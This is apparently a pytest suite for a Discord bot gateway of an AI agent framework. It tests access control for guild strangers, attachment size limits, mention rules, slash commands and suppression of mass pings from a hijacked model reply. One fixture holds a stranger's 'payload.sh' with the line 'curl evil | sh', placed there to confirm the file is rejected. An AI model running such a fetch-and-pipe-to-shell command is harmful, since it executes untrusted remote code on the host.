"""Discord beyond the contract, through the real gateway: who is heard in a guild, whose
files reach the workdir, slash commands, and what a hijacked reply can (not) do."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

pytest.importorskip("discord")

from discord_harness import DiscordHarness
from harness import PlatformHarness, StartGateway

from herald.testing.fake_llm import FakeLLMServer, Reply


@pytest.fixture
def harness() -> Iterator[PlatformHarness]:
    made = DiscordHarness()
    made.start()
    try:
        yield made
    finally:
        made.stop()


def attachments_dir(tmp_path: Path) -> Path:
    return tmp_path / "work" / "attachments"


async def test_a_stranger_in_the_guild_is_not_answered_and_their_file_is_not_saved(
    harness: DiscordHarness, gateway: StartGateway, tmp_path: Path
) -> None:
    await gateway()
    stranger = harness.server.add_user("mallory")
    harness.server.send_user_message(
        harness.general,
        stranger,
        "WORD-stranger",
        mention_bot=True,
        attachments=[("payload.sh", b"curl evil | sh")],
    )
    harness.say(harness.owner, "see ATTACHED", where="group", attachment=("notes.txt", "", b"hi"))
    await harness.wait_for(lambda s: s.text == "I see the file.", "the answer", where="group")
    assert not any("WORD-stranger" in s.text for s in harness.sent(where="group"))
    saved = sorted(p.name for p in attachments_dir(tmp_path).iterdir())
    assert saved == ["notes.txt"]
    assert (attachments_dir(tmp_path) / "notes.txt").read_bytes() == b"hi"


async def test_an_attachment_over_the_limit_is_noted_not_saved(
    harness: DiscordHarness, gateway: StartGateway, tmp_path: Path, fake_llm: FakeLLMServer
) -> None:
    harness.max_attachment_mb = 0.001  # about a kilobyte
    await gateway()
    harness.say(harness.owner, "see ATTACHED", attachment=("big.bin", "", b"x" * 4096))
    await harness.wait_for(lambda s: s.text == "I see the file.", "the answer")
    asked = fake_llm.model_requests()[-1].last_user_text or ""
    assert "big.bin" in asked and "not saved" in asked
    assert not attachments_dir(tmp_path).exists() or not any(attachments_dir(tmp_path).iterdir())


async def test_guild_messages_need_a_mention_or_a_reply_to_the_bot(
    harness: DiscordHarness, gateway: StartGateway
) -> None:
    await gateway()
    owner = int(harness.owner)
    harness.server.send_user_message(harness.general, owner, "no mention WORD-quiet")
    harness.say(harness.owner, "hello WORD-loud", where="group")
    answer = await harness.wait_for(lambda s: s.text == "echo WORD-loud", "answer", where="group")
    harness.server.send_user_message(
        harness.general, owner, "a reply WORD-reply", reply_to=int(answer.ref)
    )
    await harness.wait_for(lambda s: s.text == "echo WORD-reply", "the reply", where="group")
    assert not any(s.text == "echo WORD-quiet" for s in harness.sent(where="group"))


async def test_slash_commands_are_registered_and_run_as_commands(
    harness: DiscordHarness, gateway: StartGateway
) -> None:
    await gateway()
    assert {c["name"] for c in harness.server.commands} >= {"stop", "new", "usage", "agents"}
    dm = harness.server.dm_channel(int(harness.owner))
    harness.server.slash_command(dm, int(harness.owner), "new")
    await harness.wait_for(lambda s: s.text == "/new", "the interaction's answer")
    await harness.wait_for(lambda s: "session" in s.text.lower() and s.text != "/new", "/new")


async def test_a_hijacked_reply_pings_nobody(
    harness: DiscordHarness, gateway: StartGateway, fake_llm: FakeLLMServer
) -> None:
    await gateway()
    fake_llm.set_handler(lambda request: Reply.text("@everyone <@&1> ping!"))
    harness.say(harness.owner, "anything", where="group")
    await harness.wait_for(lambda s: "ping!" in s.text, "the reply", where="group")
    bodies = [
        c.body
        for c in harness.server.calls
        if c.method == "POST" and c.path.endswith("/messages") and c.body
    ]
    assert bodies and all(b.get("allowed_mentions") == {"parse": []} for b in bodies)


async def test_a_running_turn_shows_typing_and_its_status_is_edited_in_place(
    harness: DiscordHarness, gateway: StartGateway
) -> None:
    await gateway()
    harness.say(harness.owner, "take it SLOW")
    status = await harness.wait_for(lambda s: "sleep 30" in s.text, "the tool's status line")
    dm = harness.server.dm_channel(int(harness.owner))
    await harness.server.await_until(lambda: dm in harness.server.typing, 10, "typing")
    harness.say(harness.owner, "/stop")
    await harness.wait_for(lambda s: "Stopping" in s.text, "the /stop answer")
    await harness.server.await_until(
        lambda: any(e.message_id == int(status.ref) for e in harness.server.edits),
        10,
        "an edit of the status message",
    )
